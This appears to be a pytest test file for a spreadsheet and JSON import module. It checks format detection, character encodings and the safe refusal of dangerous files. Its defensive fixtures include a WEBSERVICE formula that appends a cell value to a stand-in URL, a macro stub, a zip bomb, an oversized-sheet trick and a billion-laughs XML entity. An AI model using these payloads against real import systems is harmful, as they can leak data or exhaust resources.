"""Files are known by their content, opened only when that is safe, and read as people see them. Nothing in them is run."""

import io
import json
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook

from amana.kernel.imports import limits
from amana.kernel.imports.cells import Row
from amana.kernel.imports.errors import (
    ExpandsTooFar,
    FileDamaged,
    FileEmpty,
    FileNotReadable,
    FileProtected,
    FileTooLarge,
    FormatDiffers,
    FormatNotTaken,
    FormatUnknown,
    JsonNotReadable,
    NoRecordsInJson,
    QuoteNotClosed,
    SheetTooWide,
    TextNotReadable,
    TooManyColumns,
    TooManyRows,
)
from amana.kernel.imports.readers import archive, open_source
from amana.kernel.imports.terms import Format
from tests.world.sheets.official import SHEET, as_csv, as_xlsx, saved
from tests.world.sheets.old_excel import xls
from tests.world.sheets.open_document import ods

TABLE = [["First name", "Nationality"], ["محمد", "SD"], ["ሰላማዊት", "ET"], ["Élodie", "CI"]]


def cells(content: bytes, **options: object) -> list[tuple[object, ...]]:
    return [row.cells for row in open_source(content, **options).tables[0].rows()]


def expected() -> list[tuple[object, ...]]:
    return [tuple(row) for row in TABLE]


def renamed(content: bytes, changes: dict[str, bytes | None]) -> bytes:
    """A packed file with parts exchanged (bytes), added or left out (None)."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if changes.get(name, b"") is not None:
                after.writestr(name, changes.get(name) or before.read(name))
        for name, part in changes.items():
            if name not in before.namelist() and part is not None:
                after.writestr(name, part)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        (Format.XLSX, as_xlsx(TABLE)),
        (Format.XLS, xls(TABLE)),
        (Format.ODS, ods(TABLE)),
        (Format.CSV, as_csv(TABLE).encode()),
        (Format.JSON, json.dumps([dict(zip(TABLE[0], row, strict=True)) for row in TABLE[1:]]).encode()),
    ],
)
def test_the_content_says_what_a_file_is(kind: Format, content: bytes) -> None:
    source = open_source(content)
    assert source.format is kind
    rows = [row.cells for row in source.tables[0].rows()]
    assert rows == (expected() if kind is not Format.JSON else expected()[1:])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_text_tables_in_unicode_are_read_whatever_divides_them(encoding: str, delimiter: str) -> None:
    assert cells(as_csv(TABLE, delimiter=delimiter).encode(encoding)) == expected()


@pytest.mark.parametrize(
    ("encoding", "row"),
    [
        ("cp1252", ["Élodie", "Françoise d'Œuvre", "née à Alger"]),
        ("iso8859_15", ["Élodie", "Gérard", "née à Alger"]),
        ("mac_roman", ["Élodie", "Gérard", "née à Alger"]),
        ("cp850", ["Élodie", "Gérard", "née à Alger"]),
        ("cp1256", ["محمد عثمان", "فاطمة الزهراء", "إريتري"]),
        ("iso8859_6", ["محمد عثمان", "فاطمة الزهراء", "إريتري"]),
        ("cp720", ["محمد عثمان", "فاطمة الزهراء", "سوداني"]),
    ],
)
def test_old_code_pages_are_recognised_and_said_to_be_guessed(encoding: str, row: list[str]) -> None:
    source = open_source((as_csv([["Nom", "Pere", "Note"], row, row], delimiter=";")).encode(encoding))
    assert [found.cells for found in source.tables[0].rows()][1] == tuple(row)
    assert [remark.code for remark in source.remarks] == ["file.encoding_guessed"]


def test_the_user_can_name_the_encoding_and_a_wrong_name_is_refused() -> None:
    content = as_csv([["Nom"], ["Gérard"]]).encode("cp850")
    assert cells(content, encoding="cp850") == [("Nom",), ("Gérard",)]
    with pytest.raises(TextNotReadable):
        open_source(content, encoding="utf-8")


def test_a_unicode_text_that_was_cut_in_a_letter_is_not_read_as_something_else() -> None:
    with pytest.raises(TextNotReadable):
        open_source(("اسم,جنسية\n" + "محمد عثمان,سوداني\n" * 20).encode()[:-2])


def test_excels_line_naming_the_mark_is_no_row_but_counts_as_one() -> None:
    source = open_source(b"sep=;\nName;Age\nAman;17\n")
    assert next(iter(source.tables[0].rows())) == Row(2, ("Name", "Age"))


def test_quoted_cells_hold_marks_and_lines() -> None:
    assert cells(b'Name,Note\r\n"Haile, Aman","one\ntwo ""three"""\r\n')[1] == ("Haile, Aman", 'one\ntwo "three"')


def test_a_quotation_mark_that_is_never_closed_is_named_with_its_row() -> None:
    text = "Name,Note\nAman,fine\n" + 'Sara,"open\n' + "Hana,x\n" * 40_000
    with pytest.raises(QuoteNotClosed) as refusal:
        open_source(text.encode())
    assert refusal.value.data == {"row": 3}


def test_rows_are_numbered_as_the_sheet_numbers_them() -> None:
    book = Workbook()
    book.active["C4"], book.active["C9"] = "First name", "Aman"
    assert list(open_source(saved(book)).tables[0].rows()) == [Row(4, (None, None, "First name")), Row(9, (None, None, "Aman"))]


def test_cells_keep_their_kind() -> None:
    book = Workbook()
    book.active.append([date(2001, 5, 23), datetime(2001, 5, 23, 4, 5), 17, 1.5, True, "x"])  # noqa: DTZ001  a sheet knows no zone
    assert cells(saved(book)) == [(date(2001, 5, 23), datetime(2001, 5, 23, 4, 5), 17.0, 1.5, True, "x")]  # noqa: DTZ001


def test_formulas_are_not_run_and_what_they_gave_is_read() -> None:
    book = Workbook()
    book.active.append(["Name", "Sum"])
    book.active.append(["Aman", '=WEBSERVICE("http://example.org/"&A2)'])
    source = open_source(saved(book))
    assert list(source.tables[0].rows())[1].cells == ("Aman", "")
    assert [(remark.code, remark.data) for remark in source.remarks] == [("file.formulas_not_run", {"count": 1})]
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(saved(book))) as packed:
        sheet = packed.read(name)
    calculated = renamed(
        saved(book), {name: sheet.replace(b"<v></v>", b"<v>42</v>").replace(b"<v />", b"<v>42</v>").replace(b"<v/>", b"<v>42</v>")}
    )
    assert list(open_source(calculated).tables[0].rows())[1].cells == ("Aman", 42.0)


def test_macros_are_ignored_and_said_to_be() -> None:
    source = open_source(renamed(as_xlsx(TABLE), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Auto_Open()"}))
    assert [remark.code for remark in source.remarks] == ["file.macros_ignored"]
    assert [row.cells for row in source.tables[0].rows()] == expected()


def test_hidden_sheets_come_last_and_are_marked() -> None:
    book = Workbook()
    book.active.title, book.active.sheet_state = "Old", "hidden"
    book.active.append(["x"])
    book.create_sheet("Cases").append(["First name"])
    assert [(table.name, table.hidden) for table in open_source(saved(book)).tables] == [("Cases", False), ("Old", True)]


def test_a_stray_cell_at_the_far_corner_is_refused_before_memory_is_taken() -> None:
    book = Workbook()
    book.active["A1"], book.active["XFD1048576"] = "First name", "x"
    content = saved(book)
    assert len(content) < 10_000
    with pytest.raises(SheetTooWide) as refusal:
        open_source(content)
    assert refusal.value.data == {"cell": "XFD1048576"}


@pytest.mark.parametrize(
    "cell", ['<c r="XFD1048576"><v>1</v></c>', "<c  s='1'\n r = 'XFD1048576' ><v>1</v></c>", '<x:c r="XFD1048576"><v>1</v></x:c>']
)
def test_the_far_corner_is_found_however_it_is_written(cell: str) -> None:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(as_xlsx([["a"]]))) as packed:
        sheet = packed.read(name).replace(b"</sheetData>", f'<row r="1048576">{cell}</row></sheetData>'.encode())
    with pytest.raises(SheetTooWide):
        open_source(renamed(as_xlsx([["a"]]), {name: sheet}))


def test_formatted_empty_cells_far_away_do_no_harm() -> None:
    book = Workbook()
    book.active.append(["First name"])
    book.active.append(["Aman"])
    book.active["XFD200000"].number_format = "0.00"
    assert cells(saved(book)) == [("First name",), ("Aman",)]


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (ods([["a"], ["b"]], repeat_last_row=1_000_000), TooManyRows),
        (ods([["a"], ["b"]], repeat_last_row=2_000, repeat_cells=16_384), SheetTooWide),
        (as_csv([["a"] * (limits.MAX_COLUMNS + 1)]).encode(), TooManyColumns),
        (b"a\n" * (limits.MAX_ROWS + 1), TooManyRows),
        (b"x" * (limits.MAX_BYTES + 1), FileTooLarge),
    ],
)
def test_tables_beyond_all_measure_are_refused(content: bytes, error: type[FileNotReadable]) -> None:
    with pytest.raises(error):
        open_source(content)


def test_open_document_sheets_that_repeat_emptiness_to_the_end_are_read() -> None:
    rest = (
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    assert cells(ods(TABLE, tail=rest)) == expected()


def test_a_packed_file_that_grows_beyond_measure_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "RATIO_FREE", 1_000_000)
    bomb = renamed(as_xlsx(TABLE), {"xl/worksheets/sheet1.xml": b"<a>" + b" " * 5_000_000})
    assert len(bomb) < 50_000
    with pytest.raises(ExpandsTooFar):
        open_source(bomb)


def test_a_packed_file_that_understates_its_size_is_damaged() -> None:
    content = bytearray(renamed(as_xlsx(TABLE), {"xl/styles.xml": b"<a>" + b" " * 100_000}))
    true_size, said = (100_003).to_bytes(4, "little"), (3).to_bytes(4, "little")
    while (at := content.find(true_size)) >= 0:
        content[at : at + 4] = said
    with pytest.raises(FileDamaged):
        open_source(bytes(content))


def test_two_parts_of_one_name_are_refused() -> None:
    packed = io.BytesIO(as_xlsx(TABLE))
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(packed, "a") as archive_:
        archive_.writestr("xl/worksheets/sheet1.xml", b"<worksheet/>")
    with pytest.raises(FileDamaged):
        open_source(packed.getvalue())


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
def test_a_workbook_that_was_cut_off_is_damaged(share: float) -> None:
    content = as_xlsx(TABLE)
    with pytest.raises(FileDamaged):
        open_source(content[: int(len(content) * share)])


def test_open_document_entities_are_refused() -> None:
    content = ods(TABLE)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        text = packed.read("content.xml")
    lol = b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    with pytest.raises(FormatNotTaken):
        open_source(renamed(content, {"content.xml": lol + text.partition(b"?>")[2]}))


def encrypted_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)


@pytest.mark.parametrize("content", [encrypted_office(), ods(TABLE, manifest="<m><manifest:encryption-data/></m>")])
def test_a_file_with_a_password_says_what_to_do(content: bytes) -> None:
    with pytest.raises(FileProtected) as refusal:
        open_source(content)
    assert "password" in refusal.value.advice()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7 ...", "PDF"),
        (b"\x89PNG\r\n\x1a\n....", "PNG"),
        (b"<html><table><tr><td>First name</td></tr></table></html>", "XML/HTML"),
        (
            renamed(as_xlsx(TABLE), dict.fromkeys(zipfile.ZipFile(io.BytesIO(as_xlsx(TABLE))).namelist()) | {"word/document.xml": b"<w/>"}),
            "Word",
        ),
        (renamed(as_xlsx(TABLE), dict.fromkeys(zipfile.ZipFile(io.BytesIO(as_xlsx(TABLE))).namelist()) | {"cases.xlsx": b"PK"}), "ZIP"),
        (b"\x1f\x8b\x08\x00....", "GZIP"),
    ],
)
def test_other_kinds_of_files_are_named(content: bytes, kind: str) -> None:
    with pytest.raises(FormatNotTaken) as refusal:
        open_source(content)
    assert refusal.value.data == {"kind": kind}


@pytest.mark.parametrize(
    ("content", "error"), [(b"", FileEmpty), (b" \r\n\t", FileEmpty), (bytes(range(1, 32)) * 50, FormatUnknown), (b",,\n,,\n", FileEmpty)]
)
def test_nothing_is_not_a_table(content: bytes, error: type[FileNotReadable]) -> None:
    with pytest.raises(error):
        open_source(content)


def test_what_was_announced_must_be_true() -> None:
    with pytest.raises(FormatDiffers) as refusal:
        open_source(as_xlsx(TABLE), announced=Format.CSV)
    assert refusal.value.data == {"announced": "csv", "found": "xlsx"}


@pytest.mark.parametrize(
    ("text", "headings"),
    [
        ('[{"a": 1, "b": {"c": ["x", "y"]}}, {"d": null}]', ("a", "b/c", "d")),
        ('{"version": 2, "cases": [{"a": 1}]}', ("a",)),
        ('{"count": 1, "results": [{"a": 1}], "other": [{"b": 2}]}', ("a",)),
        ('{"people of May": [{"a": 1}]}', ("a",)),
        ('{"a": 1}\n{"b": 2}\n', ("a", "b")),
        ('{"a": 1, "list": []}', ("a", "list")),
    ],
)
def test_json_is_read_in_every_shape_people_export(text: str, headings: tuple[str, ...]) -> None:
    assert open_source(text.encode()).tables[0].headings == headings


def test_lists_of_plain_values_stay_lists_and_our_own_structure_stays_together() -> None:
    text = '[{"m": ["x", "y"], "amana:birth": {"form": "year"}, "events": [{"a": 1}]}]'
    assert cells(text.encode()) == [(("x", "y"), '{"form": "year"}', '[{"a": 1}]')]


@pytest.mark.parametrize(("text", "line"), [('[{"a": 1},\n{"b": }]', 2), ('[{"a": NaN}]', 1), ('{"a": 1', 1), ("[" * 100_000, 1)])
def test_a_mistake_in_json_is_named_with_its_line(text: str, line: int) -> None:
    with pytest.raises((JsonNotReadable, NoRecordsInJson)) as refusal:
        open_source(text.encode())
    assert refusal.value.data.get("line", line) == line


@pytest.mark.parametrize("text", ["[]", "[1, 2]", "{}"])
def test_json_without_records_says_so(text: str) -> None:
    with pytest.raises(NoRecordsInJson):
        open_source(text.encode())


def test_rows_can_be_read_again_and_again() -> None:
    for content in (as_xlsx(TABLE), ods(TABLE), xls(TABLE), as_csv(TABLE).encode()):
        table = open_source(content).tables[0]
        assert list(table.rows()) == list(table.rows())


def test_ioms_own_sheet_opens() -> None:
    source = open_source(Path(SHEET).read_bytes())
    assert source.remarks == ()
    assert next(iter(source.tables[0].rows())).cells[3] == "prs_FirstName"
